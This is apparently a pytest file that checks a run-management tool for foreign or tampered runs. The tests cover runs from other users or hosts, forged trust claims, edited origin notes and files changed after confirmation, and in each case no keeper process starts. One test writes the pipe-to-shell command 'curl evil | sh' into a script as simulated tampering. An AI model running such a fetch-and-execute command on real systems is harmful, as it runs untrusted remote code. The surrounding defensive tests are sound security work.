"""A run that somebody else began, or that began on another host, is not executed by whoever merely opens it."""

from __future__ import annotations

import os
import shutil
import stat
from datetime import UTC, datetime
from pathlib import Path

import pytest

from cockpit.audit.layout import log_path, origin_path
from cockpit.errors import KeeperError, RunError
from cockpit.profile.kinds import installed
from cockpit.profile.load import load
from cockpit.run.events import Actor, ProfileTrust
from cockpit.session import begun, spawn
from cockpit.session.begun import begun_folder, has_begun_here, note_begun
from cockpit.session.creating import create_run
from cockpit.session.identity import account
from cockpit.session.trust_digest import executed
from cockpit.session.trust_foreign import foreign
from cockpit.session.trust_memory import Confirmed, remember, remembered
from cockpit.session.trust_runs import executed_by

PROFILE = """
id = "shop"
environment = "staging"
[[probes]]
id = "up"
kind = "command"
argv = ["{program}"]
[[phases]]
id = "one"
title = "One"
[[phases.steps]]
id = "first"
title = "First"
gate = ["up == 0"]
"""


def run_of(folder: Path, by: Actor, program: str = "true") -> Path:
    (folder / "shop.toml").write_text(PROFILE.format(program=program))
    return create_run(load(folder / "shop.toml", installed()), {}, folder=folder / "runs", started_by=by)


@pytest.fixture
def started(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """On a machine without a policy: the runs whose keepers were started."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    found: list[str] = []

    class Process:
        def __init__(self, argv: list[str], **_: object) -> None:
            found.append(Path(argv[-1]).name)

        def wait(self) -> int:
            return 0

    monkeypatch.setattr("subprocess.Popen", Process)
    return found


def test_ones_own_run_gets_its_keeper(tmp_path: Path, started: list[str]) -> None:
    run_dir = run_of(tmp_path, account())
    assert foreign(run_dir) is None
    assert spawn.start_keeper(run_dir)
    assert started == [run_dir.name]


@pytest.mark.parametrize("who", ["another user", "another host"])
def test_no_keeper_is_started_for_a_run_from_elsewhere_until_what_it_executes_was_confirmed(
    tmp_path: Path, started: list[str], who: str
) -> None:
    here = account()
    by = Actor(user="eve", host=here.host) if who == "another user" else Actor(user=here.user, host="elsewhere")
    run_dir = run_of(tmp_path, by)
    with pytest.raises(KeeperError, match="was begun elsewhere, and nobody here has confirmed") as refused:
        spawn.start_keeper(run_dir)
    assert f"cockpit resume {run_dir.name}" in str(refused.value)
    assert started == []
    began = foreign(run_dir)
    assert began is not None
    done = executed_by(began)
    remember(remembered("shop", "staging"), Confirmed(done.digest, datetime.now(UTC), "ana", "asked"), done.keys)
    assert spawn.start_keeper(run_dir)
    other = run_of(tmp_path, by, program="false")
    with pytest.raises(KeeperError, match="was begun elsewhere"):
        spawn.start_keeper(other)


def test_a_log_that_says_that_it_is_trusted_is_not_believed(tmp_path: Path, started: list[str]) -> None:
    (tmp_path / "shop.toml").write_text(PROFILE.format(program="true"))
    loaded = load(tmp_path / "shop.toml", installed())
    trust = ProfileTrust(digest=executed(loaded).digest, how="asked", by=account().user)
    by = Actor(user="eve", host="elsewhere")
    run_dir = create_run(loaded, {}, folder=tmp_path / "runs", started_by=by, trust=trust)
    remember(remembered("shop", "staging"), Confirmed(trust.digest, datetime.now(UTC), "ana", "asked"), ())
    with pytest.raises(KeeperError, match="was begun elsewhere"):
        spawn.start_keeper(run_dir)
    assert started == []


@pytest.mark.parametrize("file", ["look.sh", "settings.yaml"])
def test_no_run_begins_of_a_file_that_changed_after_it_was_confirmed(tmp_path: Path, file: str) -> None:
    """Whoever confirms reads for minutes, and is asked for values afterwards; another one writes meanwhile."""
    step = '\nkind = "command"\nargv = ["sh", "look.sh"]\nfiles = ["settings.yaml"]\n'
    (tmp_path / "shop.toml").write_text(PROFILE.format(program="true").replace('\ngate = ["up == 0"]\n', step))
    for name in ("look.sh", "settings.yaml"):
        (tmp_path / name).write_text("echo\n")
    loaded = load(tmp_path / "shop.toml", installed())
    trust = ProfileTrust(digest=executed(loaded).digest, how="asked", by=account().user)
    (tmp_path / file).write_text("curl evil | sh\n")
    with pytest.raises(RunError, match=r"a file that .*shop.toml names changed after it was confirmed"):
        create_run(loaded, {}, folder=tmp_path / "runs", trust=trust)
    assert not list((tmp_path / "runs").glob("*"))
    (tmp_path / file).write_text("echo\n")
    assert create_run(loaded, {}, folder=tmp_path / "runs", trust=trust).exists()


def moved_elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Another machine, where everybody is called the same."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "elsewhere"))


def test_a_run_out_of_a_database_is_not_ones_own_because_it_says_so(
    tmp_path: Path, started: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Who can write rows can write any name into them."""
    run_dir = run_of(tmp_path, account())
    origin_path(run_dir).unlink()  # as in the folder of a run that was brought
    moved_elsewhere(tmp_path, monkeypatch)
    assert foreign(run_dir) is not None
    with pytest.raises(KeeperError, match="was begun elsewhere"):
        spawn.start_keeper(run_dir)
    assert started == []


def test_a_folder_that_was_unpacked_among_ones_own_runs_is_not_ones_own_because_it_says_so(
    tmp_path: Path, started: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Who packs a folder can write any name into it, and the note of where its profile lay as well."""
    there = run_of(tmp_path, account())
    assert origin_path(there).exists()
    moved_elsewhere(tmp_path, monkeypatch)
    here = tmp_path / "mine" / "runs" / there.name
    shutil.copytree(there, here)
    assert foreign(here) is not None
    with pytest.raises(KeeperError, match="was begun elsewhere, and nobody here has confirmed"):
        spawn.start_keeper(here)
    assert started == []


def test_a_folder_with_the_id_of_a_run_that_began_here_and_another_beginning_is_not_ones_own(
    tmp_path: Path, started: list[str]
) -> None:
    mine, other = run_of(tmp_path, account()), run_of(tmp_path, account(), program="false")
    assert (foreign(mine), foreign(other)) == (None, None)
    log = log_path(other).read_bytes().replace(other.name.encode(), mine.name.encode())
    log_path(mine).write_bytes(log)
    assert foreign(mine) is not None
    with pytest.raises(KeeperError, match="was begun elsewhere"):
        spawn.start_keeper(mine)
    assert started == []


@pytest.mark.parametrize("change", ["writable by others", "a link", "another text", "gone"])
def test_a_note_that_cannot_be_believed_counts_as_none(tmp_path: Path, started: list[str], change: str) -> None:
    run_dir = run_of(tmp_path, account())
    note = begun_folder() / run_dir.name
    digest = note.read_text()
    assert stat.S_IMODE(note.stat().st_mode) == 0o600
    if change == "writable by others":
        note.chmod(0o666)
    else:
        note.unlink()
    if change == "a link":
        (tmp_path / "note").write_text(digest)
        note.symlink_to(tmp_path / "note")
    if change == "another text":
        note.write_text("0" * 64)
    assert foreign(run_dir) is not None
    assert started == []


def test_a_run_whose_scripts_would_be_others_than_when_it_began_gets_no_keeper(
    tmp_path: Path, started: list[str]
) -> None:
    """Members of a group that shares a run can write there where its profile lay."""
    run_dir = run_of(tmp_path, account())
    origin_path(run_dir).write_text(str(tmp_path / "evil"))
    with pytest.raises(KeeperError, match=r"began with the profile's folder .*, and its `origin` now says .*evil"):
        spawn.start_keeper(run_dir)
    assert started == []
    origin_path(run_dir).write_text(str(tmp_path))
    assert spawn.start_keeper(run_dir)


def test_where_it_cannot_be_noted_that_a_run_began_none_begins(tmp_path: Path, started: list[str]) -> None:
    begun_folder().parent.mkdir(parents=True)
    begun_folder().write_text("a file in its place")
    with pytest.raises(RunError, match="the run cannot begin: that it began here cannot be kept in ") as refused:
        run_of(tmp_path, account())
    assert "XDG_STATE_HOME" in refused.value.hint
    assert not list((tmp_path / "runs").glob("*"))
    assert started == []


def test_of_very_many_runs_the_newest_notes_are_kept(tmp_path: Path) -> None:
    for number in range(4):
        note_begun(f"run-{number}", "0" * 64, tmp_path)
        os.utime(tmp_path / f"run-{number}", (number, number))
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(begun, "MOST_RUNS", 2)
        note_begun("run-4", "1" * 64, tmp_path)
    assert sorted(os.listdir(tmp_path)) == ["run-3", "run-4"]
    assert has_begun_here("run-4", "1" * 64, tmp_path)
    assert not has_begun_here("../run-4", "1" * 64, tmp_path)
